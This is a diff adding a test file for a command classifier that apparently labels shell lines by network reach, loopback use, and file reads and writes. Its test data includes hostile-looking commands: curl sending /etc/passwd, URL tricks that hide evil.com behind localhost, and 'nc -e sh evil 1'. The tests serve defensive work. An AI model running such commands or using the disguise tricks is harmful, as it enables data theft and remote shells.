@@ -1,0 +1,110 @@
+/** The network: loopback only when every URL surely is; files that are sent or written are judged (B5). */
+import { expect, test } from "vitest";
+import { told } from "./told.ts";
+
+test.each<[string, string[]]>([
+  ["curl http://localhost:3000", ["loopback localhost"]],
+  ["curl -sS http://127.0.0.1:8000/docs/json", ["loopback 127.0.0.1"]],
+  ["curl -s 'http://[::1]:80/'", ["loopback [::1]"]],
+  ["curl -X POST -H 'A: b' --json '{\"a\":1}' http://localhost:3000/x", ["loopback localhost"]],
+  ["curl http://localhost:3000/<?>", ["loopback localhost"]],
+  ["curl -o - localhost", ["loopback localhost"]],
+  ["curl -o /etc/x http://localhost", ["write /etc/x", "loopback localhost"]],
+  ["curl -d @/etc/passwd http://localhost", ["loopback localhost", "read /etc/passwd"]],
+  ["curl -d@/etc/passwd localhost", ["loopback localhost", "read /etc/passwd"]],
+  ["curl -F 'file=@/etc/passwd;type=x' localhost", ["loopback localhost", "read /etc/passwd"]],
+  ["curl --data-urlencode 'a@/etc/x' localhost", ["loopback localhost", "read /etc/x"]],
+  ["curl -H @/etc/x localhost", ["loopback localhost", "read /etc/x"]],
+  ["curl -T /etc/passwd http://localhost", ["read /etc/passwd", "loopback localhost"]],
+  ["curl -b /etc/x localhost", ["loopback localhost", "read /etc/x"]],
+  ["curl --version", ["read"]],
+  ["curl -L http://localhost", ["network localhost"]],
+  ["curl https://api.github.com", ["network api.github.com"]],
+  ["curl http://localhost@evil.com/", ["network evil.com"]],
+  ["curl http://localhost:80@evil.com/", ["network evil.com"]],
+  ["curl 'http://localhost\\@evil.com/'", ["network"]],
+  ["curl 'http://{localhost,evil.com}/'", ["network"]],
+  ["curl http://localhost.evil.com", ["network localhost.evil.com"]],
+  ["curl http://127.0.0.1.evil.com", ["network 127.0.0.1.evil.com"]],
+  ["curl file:///etc/passwd", ["network"]],
+  ["curl localhost evil.com", ["loopback localhost", "network evil.com"]],
+  ["curl --url evil.com localhost", ["loopback localhost", "network evil.com"]],
+  ["curl http://localhost:<?>", ["network"]],
+  ["curl http://<?>", ["network"]],
+  ["curl --next", ["network", "lift unknown option --next of curl"]],
+  [
+    "curl -K x localhost",
+    ["loopback localhost", "lift -K of curl takes options, names or secrets from a file"],
+  ],
+  [
+    "curl -sKx localhost",
+    ["loopback localhost", "lift -K of curl takes options, names or secrets from a file"],
+  ],
+  [
+    "curl -x evil localhost",
+    ["loopback localhost", "lift -x of curl reaches another host than the address says"],
+  ],
+  [
+    "curl --proxy evil localhost",
+    ["loopback localhost", "lift --proxy of curl reaches another host than the address says"],
+  ],
+  [
+    "curl --resolve localhost:80:1.2.3.4 http://localhost",
+    ["loopback localhost", "lift --resolve of curl reaches another host than the address says"],
+  ],
+  [
+    "curl --connect-to ::evil: http://localhost",
+    ["loopback localhost", "lift --connect-to of curl reaches another host than the address says"],
+  ],
+  [
+    "curl --unix-sock /x http://localhost",
+    ["loopback localhost", "lift --unix-socket of curl reaches another host than the address says"],
+  ],
+  [
+    "curl -n localhost",
+    ["loopback localhost", "lift -n of curl takes options, names or secrets from a file"],
+  ],
+  ["curl -w '%{stderr}' localhost", ["loopback localhost", "lift -w of curl can write a file"]],
+  ["curl <?>", ["network", "lift <?> may be an option of curl"]],
+  ["wget -qO- http://localhost --max-redirect=0", ["loopback localhost"]],
+  ["wget http://localhost", ["network localhost", "write cwd"]],
+  [
+    "wget -e x http://localhost",
+    [
+      "network localhost",
+      "write cwd",
+      "lift -e of wget takes options, names or secrets from a file",
+    ],
+  ],
+  [
+    "wget -i x",
+    ["network", "write cwd", "lift -i of wget takes options, names or secrets from a file"],
+  ],
+  ["nc -z localhost 80", ["loopback localhost"]],
+  ["nc evil.com 1", ["network evil.com"]],
+  ["nc -l 80", ["network 80", "lift -l of nc waits for connections or runs a program for them"]],
+  [
+    "nc -e sh evil 1",
+    ["network evil", "lift -e of nc waits for connections or runs a program for them"],
+  ],
+  ["ping -c1 127.0.0.1", ["loopback 127.0.0.1"]],
+  ["rsync -a src/ out/", ["read src/ tree", "write out/ tree"]],
+  ["rsync a host:b", ["network", "read a tree"]],
+  ["rsync -e ./x a b", ["read a tree", "write b tree", "lift -e of rsync runs a program"]],
+  [
+    "rsync -a --delete a b",
+    ["read a tree", "write b tree", "lift --delete of rsync removes files"],
+  ],
+  ["psql -h localhost -c 'select 1'", ["loopback localhost", "run cwd tree"]],
+  ["psql postgres://u:p@localhost:5432/db", ["loopback localhost", "run cwd tree"]],
+  ["psql postgres://localhost@evil.com/db", ["network evil.com", "run cwd tree"]],
+  ["psql -h evil.com", ["network evil.com", "run cwd tree"]],
+  ["redis-cli -h 127.0.0.1 ping", ["loopback 127.0.0.1", "run cwd tree"]],
+  ["ssh host id", ["network cwd tree"]],
+  ["gh pr list", ["network cwd tree"]],
+  ["gh --version", ["read"]],
+  ["dig x.com", ["network cwd tree"]],
+  ["aws s3 ls", ["network cwd tree"]],
+])("%s", (line, lines) => {
+  expect(told(line)).toEqual(lines);
+});
